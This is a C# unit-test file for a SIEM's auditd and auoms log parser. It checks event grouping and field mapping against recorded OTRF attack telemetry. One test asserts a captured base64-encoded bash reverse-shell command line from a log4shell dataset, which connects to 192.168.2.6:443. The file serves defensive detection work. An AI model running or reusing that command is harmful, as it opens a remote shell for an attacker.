using NodaTime;
using Siem.Collectors.Parsing;
using Siem.Core.Events;
using static Siem.Collectors.Tests.Parsing.ParserTestKit;

namespace Siem.Collectors.Tests.Parsing;

/// <summary>Raw auditd text from OTRF Security-Datasets (arp cache discovery, dd binary padding) and auoms JSON.</summary>
public class AuditdParserTests
{
    private static string[] OtrfLines(string prefix) =>
        File.ReadAllLines(Directory.GetFiles(Path.Combine(TestData, "otrf"), prefix + "*").Single());

    [Fact]
    public void Arp_cache_records_group_by_serial_into_two_process_events()
    {
        var events = ParseAll(OtrfLines("sh_arp_cache_"));

        Assert.Equal(2, events.Count);
        var arp = events[0];
        Assert.Equal("process", arp.Get(EcsFields.EventCategory));
        Assert.Equal("start", arp.Get(EcsFields.EventType));
        Assert.Equal("executed", arp.Get(EcsFields.EventAction));
        Assert.Equal("success", arp.Get(EcsFields.EventOutcome));
        Assert.Equal("/usr/sbin/arp", arp.Get(EcsFields.ProcessExecutable));
        Assert.Equal("arp", arp.Get(EcsFields.ProcessName));
        Assert.Equal("arp -a", arp.Get(EcsFields.ProcessCommandLine));
        Assert.Equal(new[] { "arp", "-a" }, Values(arp, EcsFields.ProcessArgs));
        Assert.Equal("1631", arp.Get(EcsFields.ProcessPid));
        Assert.Equal("29002", arp.Get(EcsFields.ProcessParentPid));
        Assert.Equal("/home/wardog", arp.Get(EcsFields.ProcessWorkingDirectory));
        Assert.Equal("1000", arp.Get(EcsFields.UserId));
        Assert.Equal("1000", arp.Get(EcsFields.UserAuditId));
        Assert.Equal("59", arp.Get("auditd.syscall"));
        Assert.Equal("arp -a", arp.Get("auditd.proctitle"));
        Assert.Equal(new[] { "/usr/sbin/arp", "/lib64/ld-linux-x86-64.so.2" }, Values(arp, "auditd.path.name"));
        Assert.Equal(new[] { "SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE" }, Values(arp, "auditd.record_types"));
        Assert.Equal("92733", arp.Get("auditd.serial"));
        Assert.Equal(Instant.FromUnixTimeMilliseconds(1604994496155), arp.Timestamp);
        Assert.Equal("collector-host", arp.Get(EcsFields.HostName));
        Assert.Equal(6, arp.Original.Split('\n').Length);
        Assert.Equal(RecordIds.For("agent-1", "file:8:1", 0), arp.RecordId);

        var grep = events[1];
        Assert.Equal("/bin/grep", grep.Get(EcsFields.ProcessExecutable));
        Assert.Equal("grep -v ^?", grep.Get(EcsFields.ProcessCommandLine));
        Assert.Equal("1632", grep.Get(EcsFields.ProcessPid));
    }

    [Fact]
    public void Dd_binary_padding_is_one_process_event_with_its_exact_command_line()
    {
        var e = Assert.Single(ParseAll(OtrfLines("sh_binary_padding_dd_")));

        Assert.Equal("/bin/dd", e.Get(EcsFields.ProcessExecutable));
        Assert.Equal("dd", e.Get(EcsFields.ProcessName));
        Assert.Equal("dd if=/dev/zero bs=1 count=1", e.Get(EcsFields.ProcessCommandLine));
        Assert.Equal(new[] { "dd", "if=/dev/zero", "bs=1", "count=1" }, Values(e, EcsFields.ProcessArgs));
        Assert.Equal("2168", e.Get(EcsFields.ProcessPid));
        Assert.Equal("dd if=/dev/zero bs=1 count=1", e.Get("auditd.proctitle"));
    }

    [Fact]
    public void Group_is_held_until_the_next_serial_and_reported_as_pending()
    {
        var lines = OtrfLines("sh_arp_cache_");
        var pipeline = Pipeline();
        var output = new List<LogEvent>();
        long offset = 0;
        var offsets = new List<long>();
        for (int i = 0; i < 6; i++)
        {
            offsets.Add(offset);
            pipeline.Parse(Line(lines[i], offset), output);
            offset += lines[i].Length + 1;
        }

        Assert.Empty(output);
        Assert.Equal(0, pipeline.OldestPendingOffset("file:8:1"));
        Assert.Null(pipeline.OldestPendingOffset("file:other"));

        pipeline.Parse(Line(lines[6], offset), output);

        Assert.Single(output);
        Assert.Equal(offset, pipeline.OldestPendingOffset("file:8:1"));

        pipeline.Flush(output);

        Assert.Equal(2, output.Count);
        Assert.Null(pipeline.OldestPendingOffset("file:8:1"));
    }

    [Fact]
    public void Eoe_closes_the_group_at_once()
    {
        var pipeline = Pipeline();
        var output = new List<LogEvent>();
        pipeline.Parse(Line("type=SYSCALL msg=audit(1700000000.001:77): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 uid=0 auid=0 comm=\"id\" exe=\"/usr/bin/id\" key=(null)", 0), output);
        pipeline.Parse(Line("type=EXECVE msg=audit(1700000000.001:77): argc=1 a0=\"id\"", 200), output);
        pipeline.Parse(Line("type=EOE msg=audit(1700000000.001:77): ", 300), output);

        var e = Assert.Single(output);
        Assert.Equal("id", e.Get(EcsFields.ProcessCommandLine));
        Assert.Null(pipeline.OldestPendingOffset("file:8:1"));
    }

    [Fact]
    public void Interleaved_streams_are_grouped_separately()
    {
        var pipeline = Pipeline();
        var output = new List<LogEvent>();
        pipeline.Parse(Line("type=SYSCALL msg=audit(1700000000.001:1): syscall=59 success=yes pid=10 exe=\"/bin/a\"", 0, "file:1:1"), output);
        pipeline.Parse(Line("type=SYSCALL msg=audit(1700000000.001:5): syscall=59 success=yes pid=20 exe=\"/bin/b\"", 0, "file:1:2"), output);
        pipeline.Parse(Line("type=EXECVE msg=audit(1700000000.001:1): argc=1 a0=\"a\"", 100, "file:1:1"), output);
        pipeline.Flush(output);

        Assert.Equal(2, output.Count);
        var a = output.Single(e => e.Get(EcsFields.ProcessExecutable) == "/bin/a");
        Assert.Equal("a", a.Get(EcsFields.ProcessCommandLine));
    }

    [Fact]
    public void Hex_encoded_and_split_execve_arguments_are_decoded()
    {
        var events = ParseAll(
            "node=web01 type=SYSCALL msg=audit(1700000000.500:900): arch=c000003e syscall=59 success=no exit=-2 ppid=1 pid=3 uid=1000 auid=1000 comm=\"sh\" exe=2F746D702F6D7920746F6F6C key=\"exec\"",
            "node=web01 type=EXECVE msg=audit(1700000000.500:900): argc=3 a0=\"sh\" a1=\"-c\" a2_len=12 a2[0]=6563686F20 a2[1]=2268692229",
            "node=web01 type=CWD msg=audit(1700000000.500:900): cwd=2F686F6D652F6D7920646972");

        var e = Assert.Single(events);
        Assert.Equal("/tmp/my tool", e.Get(EcsFields.ProcessExecutable));
        Assert.Equal("my tool", e.Get(EcsFields.ProcessName));
        Assert.Equal(new[] { "sh", "-c", "echo \"hi\")" }, Values(e, EcsFields.ProcessArgs));
        Assert.Equal("/home/my dir", e.Get(EcsFields.ProcessWorkingDirectory));
        Assert.Equal("failure", e.Get(EcsFields.EventOutcome));
        Assert.Equal("web01", e.Get(EcsFields.HostName));
    }

    [Fact]
    public void User_space_record_maps_its_nested_msg_fields()
    {
        var e = Assert.Single(ParseAll(
            "type=USER_AUTH msg=audit(1700000100.200:1201): pid=4242 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.5 addr=203.0.113.5 terminal=ssh res=failed'"));

        Assert.Equal("authentication", e.Get(EcsFields.EventCategory));
        Assert.Equal("failure", e.Get(EcsFields.EventOutcome));
        Assert.Equal("root", e.Get(EcsFields.UserName));
        Assert.Equal("203.0.113.5", e.Get(EcsFields.SourceIp));
        Assert.Equal("/usr/sbin/sshd", e.Get(EcsFields.ProcessExecutable));
        Assert.Equal("PAM:authentication", e.Get("auditd.user_auth.op"));
    }

    [Fact]
    public void Line_that_starts_like_auditd_without_a_header_is_a_tagged_failure_not_held()
    {
        var pipeline = Pipeline();
        var output = new List<LogEvent>();
        pipeline.Parse(Line("type=SYSCALL but no audit header here"), output);

        var e = Assert.Single(output);
        Assert.Contains(EcsFields.ParseFailureTag, Tags(e));
        Assert.Null(pipeline.OldestPendingOffset("file:8:1"));
    }

    [Fact]
    public void Auoms_json_carries_the_execve_in_its_syslog_message()
    {
        var lines = OtrfLines("syslog_auoms_auditd_log4shell_");
        var events = ParseAll(lines);

        Assert.Equal(lines.Length, events.Count);
        var reverseShell = events.Single(e => e.Get("auditd.serial") == "84143");
        Assert.Equal("/bin/bash", reverseShell.Get(EcsFields.ProcessExecutable));
        Assert.Equal("bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}\"", reverseShell.Get(EcsFields.ProcessCommandLine));
        Assert.Equal("17790", reverseShell.Get(EcsFields.ProcessPid));
        Assert.Equal("1340", reverseShell.Get(EcsFields.ProcessParentPid));
        Assert.Equal("tomcat", reverseShell.Get(EcsFields.UserName));
        Assert.Equal("process", reverseShell.Get(EcsFields.EventCategory));
        Assert.Equal("success", reverseShell.Get(EcsFields.EventOutcome));
        Assert.Equal("UBUNTU5", reverseShell.Get(EcsFields.HostName));
        Assert.Equal("Linux", reverseShell.Get("SourceSystem"));
        Assert.Equal("auditd", reverseShell.Get(EcsFields.EventModule));
        // The unescaped proctitle's JVM flags (-Djava.util.logging.config.file=...) are not auditd keys.
        var java = events.First(e => e.Get(EcsFields.ProcessName) == "java");
        Assert.DoesNotContain(java.Fields.Keys, k => k.StartsWith("auditd.-", StringComparison.Ordinal));
        Assert.StartsWith("/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java -Djava.util.logging.config.file=", java.Get("auditd.proctitle"));
        Assert.Equal(Instant.FromUtc(2022, 5, 11, 18, 10, 21).PlusNanoseconds(990_000_000), reverseShell.Timestamp);
    }

    [Fact]
    public void Auoms_keys_with_a_hyphen_are_kept()
    {
        const string line = """{"SourceSystem":"Linux","Computer":"UBUNTU5","SyslogMessage":"type=AUOMS_LOGIN audit(1652292621.986:84150): old-auid=4294967295 auid=1000 old-ses=4294967295 ses=3 res=1"}""";

        var e = Assert.Single(ParseAll([line]));

        Assert.Equal("4294967295", e.Get("auditd.old-auid"));
        Assert.Equal("3", e.Get("auditd.ses"));
        Assert.Equal("auditd", e.Get(EcsFields.EventModule));
    }
}
